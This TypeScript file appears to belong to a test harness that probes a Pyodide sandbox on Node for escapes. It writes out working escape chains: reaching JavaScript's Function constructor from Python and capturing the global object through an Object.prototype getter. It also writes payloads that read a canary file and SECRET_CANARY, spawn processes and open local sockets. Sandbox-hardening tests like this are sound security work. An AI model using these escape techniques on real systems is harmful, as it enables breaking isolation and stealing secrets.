import type { Attack, Outside } from "../escape.ts";

/** A text as Python and JavaScript both write it. */
export const quoted = (text: string): string => JSON.stringify(text);

/** JavaScript expressions that are true where the host was reached. */
export const goalsOf = ({ canary, writable, port, pid }: Outside) => ({
  read: `process.getBuiltinModule("fs").readFileSync(${quoted(canary)}, "utf8").startsWith("canary")`,
  environment: `process.env.SECRET_CANARY.startsWith("canary")`,
  write: `(process.getBuiltinModule("fs").writeFileSync(${quoted(writable)}, "x"), true)`,
  list: `process.getBuiltinModule("fs").readdirSync("/").includes("etc")`,
  process: `process.getBuiltinModule("child_process").execFileSync("id").length > 0`,
  tcp: `((b) => new b.TCP(0).connect(new b.TCPConnectWrap(), "127.0.0.1", ${port}) === 0)(process.binding("tcp_wrap"))`,
  udp: `((b) => new b.UDP().send(new b.SendWrap(), [Buffer.from("x")], 1, ${port}, "127.0.0.1", false) >= 0)(process.binding("udp_wrap"))`,
  signal: `process.kill(${pid}, 0)`,
  script: `process.getBuiltinModule("vm").runInThisContext("6 * 7") === 42`,
  inspector: `((i) => (i.open(0), i.url() !== undefined && (i.close(), true)))(process.getBuiltinModule("inspector"))`,
  thread: `new (process.getBuiltinModule("worker_threads").Worker)("", { eval: true }).threadId > 0`,
  memory: `new Uint8Array(6e8).fill(1).length === 6e8`,
  webassembly: `new WebAssembly.Memory({ initial: 8192 }).buffer.byteLength === 2 ** 29`,
  shared: `new SharedArrayBuffer(1024).byteLength === 1024`,
  path: `process.execPath.length > 0`,
  global: `globalThis.process.pid > 0`,
});

export type Goal = keyof ReturnType<typeof goalsOf>;

/** How an attack comes to the constructor of JavaScript's functions, which it binds to `F`, and what it does with it. */
export interface Door {
  readonly name: string;
  readonly code: string;
  readonly goal: Goal;
}

/** Programs start with this: an entry of `sys.modules` that is None hides a module only as long as it stands there. */
export const restored = `import sys
for n in [n for n, m in sys.modules.items() if m is None]: del sys.modules[n]
`;

/** From one of pyodide's `run_js` to the constructor of functions, also where JavaScript's `eval` is not there. */
const running = `def of(run_js):
    try: return run_js('Function')
    except Exception: return run_js.__globals__['__builtins__']['__import__']('pyodide_js').runPython.constructor
`;

/**
 * Runs JavaScript with `F`, and where no code is made from texts, with `node:vm`: a global that is declared nowhere is looked
 * up on `Object.prototype` at last, and a getter there is handed the global object.
 */
const ending = `
def world():
    import pyodide_js, _pyodide_core as C
    O = F.prototype.__proto__.constructor; got = []; d = O.new(); d.configurable = True
    d.get = C.create_proxy(lambda this=None, *a: got.append(this), capture_this=True)
    O.defineProperty(O.prototype, 'Worker', d)
    try: pyodide_js._module._emscripten_create_worker(0)
    except BaseException: pass
    del O.prototype.Worker
    return got[0]
def run(script):
    try: return F('return ' + script)()
    except Exception: return world().process.getBuiltinModule('node:vm').runInThisContext(script)
`;

/** JavaScript that runs at all has escaped, also where a second wall stops what it is after. */
const ran = (goal: string): string => `(() => { try { return ${goal} } catch { return true } })()`;

/** The end of a program that bound `F`: it runs JavaScript that is after a goal. */
export const thenRun = (goal: string): string => `${ending}'ESCAPED' if run(${quoted(ran(goal))}) else 'held'`;

export const throughDoors = (group: string, doors: readonly Door[], outside: Outside): readonly Attack[] => {
  const goals = goalsOf(outside);
  return doors.map(({ name, code, goal }) => ({
    name: `${group}: ${name}, ${goal}`,
    code: `${restored}${running}${code}${thenRun(goals[goal])}`,
  }));
};
